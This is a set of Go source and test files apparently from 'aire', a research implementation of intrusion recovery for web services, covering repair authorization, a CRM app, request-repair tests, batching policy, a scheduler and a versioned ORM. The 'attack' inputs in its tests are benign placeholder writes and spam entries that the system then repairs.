		email, tok := c.Form("email"), c.Form("token")
		tk, ok := c.DB.Get(ModelToken, tok)
		if !ok {
			return c.Error(403, "unknown token")
		}
		u, ok := c.DB.Get(ModelUser, tk.Get("user"))
		if !ok || u.Get("email") != email {
			return c.Error(403, "email verification failed")
		}
		return c.OK("verified")
	})

	// GET /token_user resolves a token to its owner (for peer services).
	svc.Router.Handle("GET", "/token_user", func(c *web.Ctx) wire.Response {
		tk, ok := c.DB.Get(ModelToken, c.Form("token"))
		if !ok {
			return c.Error(404, "unknown token")
		}
		return c.OK(tk.Get("user"))
	})
}

// Authorize implements the paper's example policy (§7.3): a past request may
// be repaired only on behalf of the principal that issued it — the same
// user's credentials for user requests, the admin token for admin requests.
// Response repairs are accepted from the authenticated server that produced
// the response (§3.1's certificate check, done by the transport).
func (a *App) Authorize(ac core.AuthzRequest) bool {
	switch ac.Kind {
	case warp.OutReplaceResponse:
		return true // transport already authenticated the producing server
	default:
		orig := ac.Original
		if ac.Kind == warp.OutCreate {
			orig = ac.Repaired
		}
		if orig.Path == "/admin/config" {
			return ac.Carrier.Header["X-Admin-Token"] == a.AdminToken
		}
		user := orig.Form["user"]
		if user == "" {
			// Request not tied to a user principal: require admin.
			return ac.Carrier.Header["X-Admin-Token"] == a.AdminToken
		}
		// Same-user rule: the carrier must present the user's valid
		// password as of the original request (checked against the
		// snapshot, §4).
		pw := ac.Carrier.Header["X-Repair-Password"]
		if pw == "" {
			pw = ac.Repaired.Form["password"]
		}
		u, ok := ac.Snapshot.Get(ModelUser, user)
		return ok && u.Get("password") == pw
	}
}

// Seed creates n user accounts named user1..userN (password "pw-<name>",
// email "<name>@example.org") plus the given extra users, via the public
// API so the requests are logged and repairable.
func Seed(call func(wire.Request) wire.Response, n int, extras ...string) error {
	mk := func(name string) error {
		resp := call(wire.NewRequest("POST", "/signup").WithForm(
			"user", name, "password", "pw-"+name, "email", name+"@example.org"))
		if !resp.OK() {
			return fmt.Errorf("oauthsvc: seeding %s: %s", name, resp.Body)
		}
		return nil
	}
	for i := 1; i <= n; i++ {
		if err := mk(fmt.Sprintf("user%d", i)); err != nil {
			return err
		}
	}
	for _, name := range extras {
		if err := mk(name); err != nil {
			return err
		}
	}
	return nil
}
