module aire

go 1.22
