package core

import (
	"strings"
	"testing"

	"aire/internal/vdb"
	"aire/internal/warp"
	"aire/internal/wire"
)

func strictCfg() Config {
	cfg := DefaultConfig()
	cfg.StrictIndexes = true
	return cfg
}

// With coherent indexes the guard is invisible: repair runs normally.
func TestStrictIndexesPassesOnHealthyState(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, strictCfg())
	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("x", "evil"))
	if _, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatalf("repair with coherent indexes failed: %v", err)
	}
	if got := string(tb.call("store", get("x")).Body); got != "good" {
		t.Fatalf("after repair x = %q, want good", got)
	}
}

// A drifted store index fails the wave loudly before any record is touched.
func TestStrictIndexesGuardFiresOnStoreCorruption(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, strictCfg())
	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("x", "evil"))

	c.Svc.Store.CorruptScanFPForTest("kv")
	_, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]})
	if err == nil {
		t.Fatal("repair ran over a corrupted store index")
	}
	if !strings.Contains(err.Error(), "store index incoherent") {
		t.Fatalf("unexpected error: %v", err)
	}
	// The refused wave must not have mutated anything: the attack value is
	// still in place.
	if got := string(tb.call("store", get("x")).Body); got != "evil" {
		t.Fatalf("refused repair still changed state: x = %q", got)
	}
}

// A drifted repair-log index fails the wave the same way.
func TestStrictIndexesGuardFiresOnLogCorruption(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, strictCfg())
	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("x", "evil"))

	c.Svc.Log.CorruptRespIndexForTest()
	_, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]})
	if err == nil {
		t.Fatal("repair ran over a corrupted repair-log index")
	}
	if !strings.Contains(err.Error(), "repair-log index incoherent") {
		t.Fatalf("unexpected error: %v", err)
	}
}

// ProcessIncoming — the batch-mode wave entry point — runs the same guard.
func TestStrictIndexesGuardFiresOnProcessIncoming(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, strictCfg())
	tb.call("store", put("x", "good"))

	c.Svc.Store.DropIndexEntryForTest(vdb.Key{Model: "kv", ID: "x"})
	if _, err := c.ProcessIncoming(); err == nil {
		t.Fatal("batch apply ran over a corrupted store index")
	} else if !strings.Contains(err.Error(), "store index incoherent") {
		t.Fatalf("unexpected error: %v", err)
	}
}

// Off by default: the same corruption goes unnoticed without StrictIndexes,
// proving the guard (not some other path) is what fires above.
func TestStrictIndexesOffByDefault(t *testing.T) {
	tb := newTestbed()
	c := tb.add(&kvApp{name: "store"}, DefaultConfig())
	tb.call("store", put("x", "good"))
	attack := tb.call("store", put("x", "evil"))

	c.Svc.Store.CorruptScanFPForTest("never-scanned-model")
	if _, err := c.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatalf("guard fired with StrictIndexes off: %v", err)
	}
}
