package dsched

import (
	"strings"
	"testing"

	"aire/internal/simnet"
)

// TestKillAtYieldPoint: a task killed while parked at a labeled yield point
// never runs again — in particular its deferred cleanup does NOT run (a
// kill models a crash, not a shutdown) — and the kill lands in the trace.
func TestKillAtYieldPoint(t *testing.T) {
	s := New(3, simnet.NewClock(0))
	var afterYield, deferred bool
	s.Go("victim", func() {
		defer func() { deferred = true }()
		s.YieldNamed("claim-window")
		afterYield = true
	})
	s.Go("bystander", func() { s.Yield() })

	// Step until the victim parks at the labeled point (a YieldNamed park
	// is runnable, so RunUntilIdle would run it to completion instead).
	var victimID, found = 0, false
	for !found {
		if !s.Step() {
			t.Fatal("went idle before the victim parked at claim-window")
		}
		for _, ti := range s.Parked() {
			if ti.Name == "victim" && ti.Label == "claim-window" {
				victimID, found = ti.ID, true
			}
		}
		if afterYield {
			t.Fatal("victim ran past its yield point before the driver saw it parked")
		}
	}
	if !s.Kill(victimID) {
		t.Fatal("Kill(victim) reported no such task")
	}
	s.RunUntilIdle()
	if afterYield {
		t.Fatal("killed task ran past its yield point")
	}
	if deferred {
		t.Fatal("killed task ran its defers; Kill must model a crash, not an unwind")
	}
	if got := strings.Join(s.Trace(), ","); !strings.Contains(got, "kill:victim@claim-window") {
		t.Fatalf("trace does not record the kill: %v", got)
	}
	if s.Kill(victimID) {
		t.Fatal("second Kill of the same task reported success")
	}
	if s.Live() != 0 {
		t.Fatalf("Live()=%d after kill and idle, want 0", s.Live())
	}
}

// TestKillUnstartedTask: a registered task that was never scheduled can be
// killed before its first step.
func TestKillUnstartedTask(t *testing.T) {
	s := New(1, simnet.NewClock(0))
	ran := false
	s.Go("never", func() { ran = true })
	parked := s.Parked()
	if len(parked) != 1 || parked[0].Name != "never" {
		t.Fatalf("Parked()=%v, want the one unstarted task", parked)
	}
	if !s.Kill(parked[0].ID) {
		t.Fatal("Kill failed")
	}
	s.RunUntilIdle()
	if ran {
		t.Fatal("killed task ran")
	}
}
