package aire_test

import (
	"strings"
	"testing"

	"aire"
)

// guestbookApp exercises the public facade exactly as README documents it.
type guestbookApp struct{ peer string }

func (a *guestbookApp) Name() string { return "guestbook" }

func (a *guestbookApp) Authorize(ac aire.AuthzRequest) bool {
	// Peer services may repair requests they themselves issued; everything
	// else needs the owner's key.
	if ac.From != "" && ac.From == ac.OriginalFrom {
		return true
	}
	return ac.Carrier.Header["X-Owner"] == "owner-key"
}

func (a *guestbookApp) Register(svc *aire.Service) {
	svc.Schema.Register("entry")
	svc.Router.Handle("POST", "/sign", func(c *aire.Ctx) aire.Response {
		id := c.NewID()
		if err := c.DB.Put("entry", id, aire.Fields("who", c.Form("who"), "msg", c.Form("msg"))); err != nil {
			return c.Error(500, err.Error())
		}
		if a.peer != "" {
			c.Call(a.peer, aire.NewRequest("POST", "/sign").WithForm("who", c.Form("who"), "msg", c.Form("msg")))
		}
		return c.OK(id)
	})
	svc.Router.Handle("GET", "/book", func(c *aire.Ctx) aire.Response {
		var b strings.Builder
		for _, e := range c.DB.List("entry") {
			b.WriteString(e.Get("who") + ": " + e.Get("msg") + "\n")
		}
		return c.OK(b.String())
	})
}

func TestPublicAPIEndToEnd(t *testing.T) {
	bus := aire.NewBus()
	front := aire.NewService(&guestbookApp{peer: "archive"}, bus)
	archive := aire.NewService(&guestbookApp{}, bus)
	bus.Register("guestbook", front)
	bus.Register("archive", archive)

	call := func(svc string, req aire.Request) aire.Response {
		resp, err := bus.Call("", svc, req)
		if err != nil {
			t.Fatalf("%s: %v", svc, err)
		}
		return resp
	}

	call("guestbook", aire.NewRequest("POST", "/sign").WithForm("who", "ann", "msg", "hello"))
	spam := call("guestbook", aire.NewRequest("POST", "/sign").WithForm("who", "bot", "msg", "BUY NOW"))
	if !strings.Contains(string(call("archive", aire.NewRequest("GET", "/book")).Body), "BUY NOW") {
		t.Fatal("spam should have propagated to the archive")
	}

	// Repair via the public helpers.
	res, err := front.ApplyLocal(aire.Cancel(spam.Header[aire.HdrRequestID]))
	if err != nil {
		t.Fatal(err)
	}
	if res.RepairedRequests == 0 {
		t.Fatal("no repair performed")
	}
	if rounds := aire.Settle(10, front, archive); rounds == 0 {
		t.Fatal("settle made no progress delivering repair")
	}

	for _, svc := range []string{"guestbook", "archive"} {
		book := string(call(svc, aire.NewRequest("GET", "/book")).Body)
		if strings.Contains(book, "BUY NOW") {
			t.Fatalf("%s still contains spam: %q", svc, book)
		}
		if !strings.Contains(book, "ann: hello") {
			t.Fatalf("%s lost the legitimate entry: %q", svc, book)
		}
	}
}

func TestPublicAPIReplaceAndCreate(t *testing.T) {
	bus := aire.NewBus()
	gb := aire.NewService(&guestbookApp{}, bus)
	bus.Register("guestbook", gb)

	call := func(req aire.Request) aire.Response {
		resp, err := bus.Call("", "guestbook", req)
		if err != nil {
			t.Fatal(err)
		}
		return resp
	}

	first := call(aire.NewRequest("POST", "/sign").WithForm("who", "ann", "msg", "helo"))
	last := call(aire.NewRequest("POST", "/sign").WithForm("who", "cat", "msg", "meow"))

	// Replace fixes the typo.
	if _, err := gb.ApplyLocal(aire.Replace(first.Header[aire.HdrRequestID],
		aire.NewRequest("POST", "/sign").WithForm("who", "ann", "msg", "hello"))); err != nil {
		t.Fatal(err)
	}
	// CreateInPast adds a missing entry between the two.
	if _, err := gb.ApplyLocal(aire.CreateInPast(
		aire.NewRequest("POST", "/sign").WithForm("who", "bob", "msg", "late"),
		first.Header[aire.HdrRequestID], last.Header[aire.HdrRequestID])); err != nil {
		t.Fatal(err)
	}
	book := string(call(aire.NewRequest("GET", "/book")).Body)
	for _, want := range []string{"ann: hello", "bob: late", "cat: meow"} {
		if !strings.Contains(book, want) {
			t.Fatalf("book missing %q: %q", want, book)
		}
	}
	if strings.Contains(book, "helo\n") {
		t.Fatalf("typo survived replace: %q", book)
	}
}

func TestPublicAPIRepairRespectsAuthorize(t *testing.T) {
	bus := aire.NewBus()
	gb := aire.NewService(&guestbookApp{}, bus)
	bus.Register("guestbook", gb)

	resp, err := bus.Call("", "guestbook", aire.NewRequest("POST", "/sign").WithForm("who", "x", "msg", "m"))
	if err != nil {
		t.Fatal(err)
	}
	del := aire.NewRequest("POST", "/aire/repair").WithHeader(
		aire.HdrRepair, "delete", aire.HdrRequestID, resp.Header[aire.HdrRequestID])
	if denied, _ := bus.Call("", "guestbook", del); denied.Status != 403 {
		t.Fatalf("repair without owner key accepted: %d", denied.Status)
	}
	if ok, _ := bus.Call("", "guestbook", del.WithHeader("X-Owner", "owner-key")); !ok.OK() {
		t.Fatalf("repair with owner key rejected: %+v", ok)
	}
}
