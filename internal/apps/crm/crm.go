// Package crm implements the customer-management web service of the
// paper's introduction (§1) — the Salesforce-like dependent in the
// motivating example: "if an attacker exploits a bug in the access control
// service, she could give herself write access ... make unauthorized
// changes ... and corrupt other services."
//
// Every write checks the caller's permission by *calling* the central
// access-control service (pull model). The permission answer is therefore a
// logged outgoing-call response: when the access-control service repairs a
// bad grant, the corrected answers arrive as replace_response messages and
// this service's writes re-execute to failure — recovery driven entirely
// through response repair.
package crm

import (
	"fmt"
	"strings"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/warp"
	"aire/internal/web"
	"aire/internal/wire"
)

// ModelCustomer holds customer records: fields name, notes, owner.
const ModelCustomer = "customer"

// App is the customer-management service.
type App struct {
	// ServiceName is the transport identity (default "crm").
	ServiceName string
	// PermService is the central access-control service's name.
	PermService string
}

// New returns a CRM wired to the given access-control service.
func New(permService string) *App {
	return &App{ServiceName: "crm", PermService: permService}
}

// Name implements core.App.
func (a *App) Name() string { return a.ServiceName }

// check pulls the caller's access level from the central service.
func (a *App) check(c *web.Ctx, user string) string {
	resp := c.Call(a.PermService, wire.NewRequest("GET", "/check").
		WithForm("svc", a.ServiceName, "user", user))
	if !resp.OK() {
		return ""
	}
	return string(resp.Body)
}

// Register installs models and routes.
func (a *App) Register(svc *web.Service) {
	svc.Schema.Register(ModelCustomer)

	// POST /customer creates or updates a record; requires "w" from the
	// central service.
	svc.Router.Handle("POST", "/customer", func(c *web.Ctx) wire.Response {
		user := c.Form("user")
		if !strings.Contains(a.check(c, user), "w") {
			return c.Error(403, user+" lacks write access (central policy)")
		}
		id := c.Form("id")
		if id == "" {
			id = "cust-" + c.NewID()
		}
		if err := c.DB.Put(ModelCustomer, id, orm.Fields(
			"name", c.Form("name"), "notes", c.Form("notes"), "owner", user)); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(id)
	})

	// GET /customer reads a record; requires "r".
	svc.Router.Handle("GET", "/customer", func(c *web.Ctx) wire.Response {
		if !strings.Contains(a.check(c, c.Form("user")), "r") {
			return c.Error(403, "no read access")
		}
		o, ok := c.DB.Get(ModelCustomer, c.Form("id"))
		if !ok {
			return c.Error(404, "no such customer")
		}
		return c.OK(fmt.Sprintf("%s | %s | owner=%s", o.Get("name"), o.Get("notes"), o.Get("owner")))
	})

	// GET /customers lists records (read access required).
	svc.Router.Handle("GET", "/customers", func(c *web.Ctx) wire.Response {
		if !strings.Contains(a.check(c, c.Form("user")), "r") {
			return c.Error(403, "no read access")
		}
		out := ""
		for _, o := range c.DB.List(ModelCustomer) {
			out += o.ID + ": " + o.Get("name") + "\n"
		}
		return c.OK(out)
	})
}

// Authorize allows a repair only on behalf of the original principal: the
// same user name presented in the carrier, or the issuing peer service.
func (a *App) Authorize(ac core.AuthzRequest) bool {
	if ac.Kind == warp.OutReplaceResponse {
		return true
	}
	if ac.OriginalFrom != "" {
		return ac.From == ac.OriginalFrom
	}
	user := ac.Original.Form["user"]
	if user == "" {
		user = ac.Repaired.Form["user"]
	}
	return user != "" && ac.Carrier.Header["X-Repair-User"] == user
}
