package core

import (
	"fmt"
	"testing"

	"aire/internal/transport"
	"aire/internal/warp"
	"aire/internal/wire"
)

func TestAdaptiveBatchLimit(t *testing.T) {
	cases := []struct {
		name          string
		pol           AdaptiveBatch
		backlog, prev int
		want          int
	}{
		{"first-contact-small-backlog", AdaptiveBatch{}, 1, 0, 1},
		{"first-contact-grows", AdaptiveBatch{}, 10, 0, 2},
		{"doubles-under-backlog", AdaptiveBatch{}, 10, 2, 4},
		{"doubles-again", AdaptiveBatch{}, 100, 16, 32},
		{"capped-at-default-max", AdaptiveBatch{}, 1000, 64, 64},
		{"capped-at-custom-max", AdaptiveBatch{Max: 8}, 100, 8, 8},
		{"grow-clamped-to-max", AdaptiveBatch{Max: 8}, 100, 6, 8},
		{"shrinks-to-backlog", AdaptiveBatch{}, 3, 16, 3},
		{"idle-shrinks-to-min", AdaptiveBatch{}, 0, 16, 1},
		{"min-floor", AdaptiveBatch{Min: 4}, 1, 0, 4},
		{"min-floor-on-shrink", AdaptiveBatch{Min: 4, Max: 32}, 2, 16, 4},
		{"max-below-min-clamps", AdaptiveBatch{Min: 8, Max: 2}, 100, 0, 8},
		{"backlog-equal-prev-holds", AdaptiveBatch{}, 8, 8, 8},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := tc.pol.Limit(tc.backlog, tc.prev); got != tc.want {
				t.Fatalf("%+v.Limit(%d, %d) = %d, want %d", tc.pol, tc.backlog, tc.prev, got, tc.want)
			}
		})
	}
}

// cascadeMsg builds a distinct repair-carrier message bound for peer.
func cascadeMsg(peer string, n int) warp.OutMsg {
	return warp.OutMsg{
		Kind: warp.OutReplace, Target: peer,
		RemoteReqID: fmt.Sprintf("%s-req-%d", peer, n),
		Req:         wire.NewRequest("POST", "/put").WithForm("key", "k", "val", "v"),
	}
}

// respMsg builds a response-class (replace_response) message bound for the
// named notifier host.
func respMsg(host string, n int) warp.OutMsg {
	return warp.OutMsg{
		Kind:        warp.OutReplaceResponse,
		NotifierURL: transport.NotifierURL(host),
		RespID:      fmt.Sprintf("%s-resp-%d", host, n),
		LocalReqID:  fmt.Sprintf("%s-lreq-%d", host, n),
		Resp:        wire.NewResponse(200, "fixed"),
	}
}

// claimPass runs the decision sequence a background pump pass runs —
// backlog snapshot, policy limits, claim — and returns the claimed batches.
func claimPass(c *Controller) []*claimedBatch {
	var limits map[string]int
	if c.Cfg.BatchPolicy != nil {
		limits = c.batchLimits(c.peerBacklogs())
	}
	return c.claimBatches(c.batchSize(), limits, true)
}

// TestBatchPolicyGrowsAndShrinks drives claim passes by hand: under a deep
// backlog the per-peer claim limit doubles pass over pass up to the cap
// (carried in the retained peerState), and when the backlog drains the
// next pass claims exactly what is left.
func TestBatchPolicyGrowsAndShrinks(t *testing.T) {
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.BatchPolicy = AdaptiveBatch{Min: 1, Max: 8}
	c := tb.add(&kvApp{name: "a"}, cfg)

	var msgs []warp.OutMsg
	for i := 0; i < 20; i++ {
		msgs = append(msgs, cascadeMsg("b", i))
	}
	c.enqueue(msgs, traceCtx{})

	var sizes []int
	for pass := 0; pass < 4; pass++ {
		batches := claimPass(c)
		if len(batches) != 1 {
			t.Fatalf("pass %d claimed %d batches, want 1", pass, len(batches))
		}
		sizes = append(sizes, len(batches[0].ptrs))
		c.releaseBatches(batches) // hand the claim back; ps.limit persists
	}
	want := []int{2, 4, 8, 8}
	for i := range want {
		if sizes[i] != want[i] {
			t.Fatalf("claim sizes = %v, want %v (growth toward the cap)", sizes, want)
		}
	}

	// Drain the backlog down to 3: the next pass claims exactly that.
	for _, p := range c.Pending()[3:] {
		if err := c.Drop(p.MsgID); err != nil {
			t.Fatal(err)
		}
	}
	batches := claimPass(c)
	if len(batches) != 1 || len(batches[0].ptrs) != 3 {
		t.Fatalf("post-drain claim = %d batches, %d msgs; want 1 batch of 3", len(batches), len(batches[0].ptrs))
	}
	c.releaseBatches(batches)
}

// TestAdmissionReservesResponseWorkers: with MaxShare = 0.5 of 2 workers,
// one pass may put at most one cascade-class batch in flight while a
// response-class message waits — the second cascade peer is skipped, the
// response batch is claimed. Once nothing response-class is queued, the
// budget stops biting.
func TestAdmissionReservesResponseWorkers(t *testing.T) {
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.PumpWorkers = 2
	cfg.Admission = Admission{MaxShare: 0.5}
	c := tb.add(&kvApp{name: "a"}, cfg)

	c.enqueue([]warp.OutMsg{cascadeMsg("p1", 0), cascadeMsg("p2", 0), respMsg("client", 0)}, traceCtx{})

	batches := claimPass(c)
	if len(batches) != 2 {
		t.Fatalf("claimed %d batches, want 2 (one cascade, the response)", len(batches))
	}
	if batches[0].peer != "p1" || !batches[0].cascade {
		t.Fatalf("first batch = %q cascade=%v, want cascade to p1", batches[0].peer, batches[0].cascade)
	}
	if batches[1].peer != "client" || batches[1].cascade {
		t.Fatalf("second batch = %q cascade=%v, want response-class to client", batches[1].peer, batches[1].cascade)
	}
	c.qmu.Lock()
	inflight := c.cascadeInflight
	c.qmu.Unlock()
	if inflight != 1 {
		t.Fatalf("cascadeInflight = %d, want 1", inflight)
	}
	c.releaseBatches(batches)
	c.qmu.Lock()
	inflight = c.cascadeInflight
	c.qmu.Unlock()
	if inflight != 0 {
		t.Fatalf("cascadeInflight after release = %d, want 0", inflight)
	}

	// Drop the waiting response: with the user-visible plane idle, both
	// cascade batches may claim.
	for _, p := range c.Pending() {
		if p.Msg.Kind == warp.OutReplaceResponse {
			if err := c.Drop(p.MsgID); err != nil {
				t.Fatal(err)
			}
		}
	}
	batches = claimPass(c)
	if len(batches) != 2 {
		t.Fatalf("with no responses waiting, claimed %d batches, want both cascades", len(batches))
	}
	c.releaseBatches(batches)
}

// TestAdmissionBurstTrickle: a peer this service has a live outbound call
// in flight to gets repair delivery in Burst-sized sips; the serial Flush
// path ignores the budget entirely.
func TestAdmissionBurstTrickle(t *testing.T) {
	tb := newTestbed()
	cfg := DefaultConfig()
	cfg.Admission = Admission{Burst: 2}
	c := tb.add(&kvApp{name: "a"}, cfg)

	var msgs []warp.OutMsg
	for i := 0; i < 5; i++ {
		msgs = append(msgs, cascadeMsg("p1", i))
	}
	c.enqueue(msgs, traceCtx{})

	c.beginLiveCall("p1")
	batches := c.claimBatches(0, nil, true)
	if len(batches) != 1 || len(batches[0].ptrs) != 2 {
		t.Fatalf("claim while p1 serves live traffic = %d msgs, want Burst=2", len(batches[0].ptrs))
	}
	c.releaseBatches(batches)

	// Flush's claim (admit=false) is exempt: synchronous passes stay
	// deterministic and unbounded.
	batches = c.claimBatches(0, nil, false)
	if len(batches) != 1 || len(batches[0].ptrs) != 5 {
		t.Fatalf("flush-style claim = %d msgs, want all 5 (admission ignored)", len(batches[0].ptrs))
	}
	c.releaseBatches(batches)
	c.endLiveCall("p1")

	// Live call ended: the budget no longer applies.
	batches = c.claimBatches(0, nil, true)
	if len(batches) != 1 || len(batches[0].ptrs) != 5 {
		t.Fatalf("claim after live call ended = %d msgs, want all 5", len(batches[0].ptrs))
	}
	c.releaseBatches(batches)
}
