package orm

import (
	"testing"

	"aire/internal/vdb"
)

func newTx(store *vdb.Store, schema *Schema, at int64, reqID string) *Tx {
	return &Tx{Store: store, Schema: schema, At: at, ReqID: reqID, Deps: &Deps{}}
}

func setup() (*vdb.Store, *Schema) {
	s := vdb.NewStore()
	sc := NewSchema()
	sc.Register("kv")
	sc.RegisterVersioned("ver")
	return s, sc
}

func TestPutGetRecordsDeps(t *testing.T) {
	store, schema := setup()
	tx := newTx(store, schema, 10, "r1")
	if err := tx.Put("kv", "a", Fields("v", "1")); err != nil {
		t.Fatal(err)
	}
	tx2 := newTx(store, schema, 20, "r2")
	o, ok := tx2.Get("kv", "a")
	if !ok || o.Get("v") != "1" {
		t.Fatalf("Get = %+v %v", o, ok)
	}
	if len(tx.Deps.Writes) != 1 || tx.Deps.Writes[0].Key.ID != "a" {
		t.Fatalf("write deps = %+v", tx.Deps.Writes)
	}
	if len(tx2.Deps.Reads) != 1 || tx2.Deps.Reads[0].TS != 10 {
		t.Fatalf("read deps = %+v", tx2.Deps.Reads)
	}
}

func TestReadMissRecordsDep(t *testing.T) {
	store, schema := setup()
	tx := newTx(store, schema, 10, "r1")
	if _, ok := tx.Get("kv", "nope"); ok {
		t.Fatal("miss reported as hit")
	}
	if len(tx.Deps.Reads) != 1 || tx.Deps.Reads[0].Hash != vdb.MissingHash || tx.Deps.Reads[0].TS != 0 {
		t.Fatalf("miss dep = %+v", tx.Deps.Reads)
	}
}

func TestReadOwnWriteSkipsDep(t *testing.T) {
	store, schema := setup()
	tx := newTx(store, schema, 10, "r1")
	tx.Put("kv", "a", Fields("v", "1"))
	if o, ok := tx.Get("kv", "a"); !ok || o.Get("v") != "1" {
		t.Fatal("read-own-write must return the written value")
	}
	if len(tx.Deps.Reads) != 0 {
		t.Fatalf("read of own write must record no dep: %+v", tx.Deps.Reads)
	}
}

func TestUpdateRecordsReadAndWrite(t *testing.T) {
	store, schema := setup()
	newTx(store, schema, 10, "r1").Put("kv", "a", Fields("n", "1"))
	tx := newTx(store, schema, 20, "r2")
	found, err := tx.Update("kv", "a", func(f map[string]string) { f["n"] = "2" })
	if err != nil || !found {
		t.Fatalf("update: %v %v", found, err)
	}
	if len(tx.Deps.Reads) != 1 || len(tx.Deps.Writes) != 1 {
		t.Fatalf("deps = %+v", tx.Deps)
	}
	o, _ := newTx(store, schema, 30, "r3").Get("kv", "a")
	if o.Get("n") != "2" {
		t.Fatalf("update not applied: %+v", o)
	}
	// Missing object: no write.
	found, err = tx.Update("kv", "nope", func(map[string]string) {})
	if err != nil || found {
		t.Fatal("update of missing object should report not-found")
	}
}

func TestListRecordsScanDepAndTimeTravel(t *testing.T) {
	store, schema := setup()
	newTx(store, schema, 10, "r1").Put("kv", "a", Fields("v", "1"))
	newTx(store, schema, 20, "r2").Put("kv", "b", Fields("v", "2"))

	tx := newTx(store, schema, 15, "r3")
	got := tx.List("kv")
	if len(got) != 1 || got[0].ID != "a" {
		t.Fatalf("List at ts=15 = %+v", got)
	}
	if len(tx.Deps.Scans) != 1 || tx.Deps.Scans[0].Model != "kv" {
		t.Fatalf("scan deps = %+v", tx.Deps.Scans)
	}
}

func TestSelectAndFirst(t *testing.T) {
	store, schema := setup()
	newTx(store, schema, 10, "r1").Put("kv", "a", Fields("kind", "x"))
	newTx(store, schema, 20, "r2").Put("kv", "b", Fields("kind", "y"))
	newTx(store, schema, 30, "r3").Put("kv", "c", Fields("kind", "x"))

	tx := newTx(store, schema, 99, "r4")
	xs := tx.Select("kv", func(o Obj) bool { return o.Get("kind") == "x" })
	if len(xs) != 2 {
		t.Fatalf("Select = %+v", xs)
	}
	first, ok := tx.First("kv", func(o Obj) bool { return o.Get("kind") == "y" })
	if !ok || first.ID != "b" {
		t.Fatalf("First = %+v %v", first, ok)
	}
	if _, ok := tx.First("kv", func(Obj) bool { return false }); ok {
		t.Fatal("First with no match must report false")
	}
}

func TestDelete(t *testing.T) {
	store, schema := setup()
	newTx(store, schema, 10, "r1").Put("kv", "a", Fields("v", "1"))
	tx := newTx(store, schema, 20, "r2")
	if err := tx.Delete("kv", "a"); err != nil {
		t.Fatal(err)
	}
	if _, ok := newTx(store, schema, 30, "r3").Get("kv", "a"); ok {
		t.Fatal("deleted object visible")
	}
	// Still visible in the past.
	if _, ok := newTx(store, schema, 15, "r4").Get("kv", "a"); !ok {
		t.Fatal("time travel to before deletion failed")
	}
}

func TestReadOnlyGuards(t *testing.T) {
	store, schema := setup()
	tx := Snapshot(store, schema, 10)
	if err := tx.Put("kv", "a", Fields("v", "1")); err == nil {
		t.Fatal("Put on snapshot must fail")
	}
	if err := tx.Delete("kv", "a"); err == nil {
		t.Fatal("Delete on snapshot must fail")
	}
}

func TestVersionedModelSemantics(t *testing.T) {
	store, schema := setup()
	tx := newTx(store, schema, 10, "r1")
	if err := tx.Put("ver", "v1", Fields("v", "a")); err != nil {
		t.Fatal(err)
	}
	// No dependency tracking for versioned models.
	if len(tx.Deps.Writes) != 0 {
		t.Fatalf("versioned write recorded a dep: %+v", tx.Deps.Writes)
	}
	tx2 := newTx(store, schema, 20, "r2")
	if _, ok := tx2.Get("ver", "v1"); !ok {
		t.Fatal("versioned object missing")
	}
	if len(tx2.Deps.Reads) != 0 {
		t.Fatalf("versioned read recorded a dep: %+v", tx2.Deps.Reads)
	}
	// Immutable: delete forbidden, conflicting re-put forbidden.
	if err := tx2.Delete("ver", "v1"); err == nil {
		t.Fatal("delete of versioned object must fail")
	}
	if err := tx2.Put("ver", "v1", Fields("v", "CHANGED")); err == nil {
		t.Fatal("conflicting immutable put must fail")
	}
	// Idempotent identical re-put (replay) is fine.
	if err := tx2.Put("ver", "v1", Fields("v", "a")); err != nil {
		t.Fatal(err)
	}
	// Survives rollback.
	store.Rollback(vdb.Key{Model: "ver", ID: "v1"}, 0)
	if _, ok := newTx(store, schema, 30, "r3").Get("ver", "v1"); !ok {
		t.Fatal("versioned object rolled back")
	}
}

func TestRollbackRedoPutSemantics(t *testing.T) {
	// A replay write "into the past" removes newer versions (their writers
	// re-execute later).
	store, schema := setup()
	newTx(store, schema, 10, "r1").Put("kv", "a", Fields("v", "old"))
	newTx(store, schema, 30, "r3").Put("kv", "a", Fields("v", "newer"))
	// Replay r2 at ts=20 writing a.
	if err := newTx(store, schema, 20, "r2").Put("kv", "a", Fields("v", "replayed")); err != nil {
		t.Fatal(err)
	}
	o, _ := newTx(store, schema, 99, "r4").Get("kv", "a")
	if o.Get("v") != "replayed" {
		t.Fatalf("latest = %+v", o)
	}
	if store.HasVersion(vdb.Key{Model: "kv", ID: "a"}, 30, "r3") {
		t.Fatal("newer version should have been rolled back by the replay write")
	}
}

func TestObjHelpers(t *testing.T) {
	o := Obj{ID: "x", F: map[string]string{"n": "42", "b": "true", "bad": "x9"}}
	if o.Int("n") != 42 || o.Int("missing") != 0 || o.Int("bad") != 0 {
		t.Fatal("Int helper wrong")
	}
	if !o.Bool("b") || o.Bool("n") {
		t.Fatal("Bool helper wrong")
	}
	if o.Get("missing") != "" {
		t.Fatal("Get helper wrong")
	}
}

func TestSchemaRegistry(t *testing.T) {
	sc := NewSchema()
	sc.Register("b")
	sc.Register("a")
	sc.RegisterVersioned("c")
	if !sc.IsVersioned("c") || sc.IsVersioned("a") {
		t.Fatal("versioned flags wrong")
	}
	m := sc.Models()
	if len(m) != 3 || m[0] != "a" || m[2] != "c" {
		t.Fatalf("Models = %v", m)
	}
}

